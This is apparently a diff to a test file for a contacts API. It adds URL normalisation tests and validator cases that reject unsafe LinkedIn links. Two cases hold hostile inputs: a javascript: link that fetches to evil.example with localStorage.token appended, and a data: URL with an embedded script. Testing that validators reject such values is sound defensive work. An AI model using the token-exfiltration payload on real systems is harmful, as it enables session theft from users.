@@ -108,6 +108,18 @@ describe("contacts.create", () => {
     });
   });
 
+  it("stores a LinkedIn address given without its scheme as https, and one with it as written", async () => {
+    const { caller } = await ownerOfNewOrganization();
+    const pasted = await caller.contacts.create({ firstName: "Ann", linkedinUrl: " linkedin.com/in/ann-lee " });
+    expect(pasted.linkedinUrl).toBe("https://linkedin.com/in/ann-lee");
+    const full = await caller.contacts.update({
+      id: pasted.id,
+      version: 1,
+      patch: { linkedinUrl: "http://www.linkedin.com/in/ann-lee/" },
+    });
+    expect(full.linkedinUrl).toBe("http://www.linkedin.com/in/ann-lee/");
+  });
+
   it("stores blank optional text as null", async () => {
     const { caller } = await ownerOfNewOrganization();
     const created = await caller.contacts.create({ firstName: "Ann", title: "   ", source: "" });
@@ -116,7 +128,24 @@ describe("contacts.create", () => {
 
   it.each([
     ["a bad email", { firstName: "Ann", emails: ["ann@"] }, "emails", "Enter a valid email address."],
-    ["a bad URL", { firstName: "Ann", linkedinUrl: "linkedin ann" }, "linkedinUrl", "Enter a full URL, like https://…"],
+    [
+      "a bad URL",
+      { firstName: "Ann", linkedinUrl: "linkedin ann" },
+      "linkedinUrl",
+      "Enter a web address, like https://example.com",
+    ],
+    [
+      "a link that would run script",
+      { firstName: "Ann", linkedinUrl: "javascript:fetch('//evil.example/'+localStorage.token)" },
+      "linkedinUrl",
+      "Enter a web address, like https://example.com",
+    ],
+    [
+      "a link to a document of its own",
+      { firstName: "Ann", linkedinUrl: "data:text/html,<script>alert(1)</script>" },
+      "linkedinUrl",
+      "Enter a web address, like https://example.com",
+    ],
     [
       "a bad phone",
       { firstName: "Ann", phones: ["call me maybe"] },
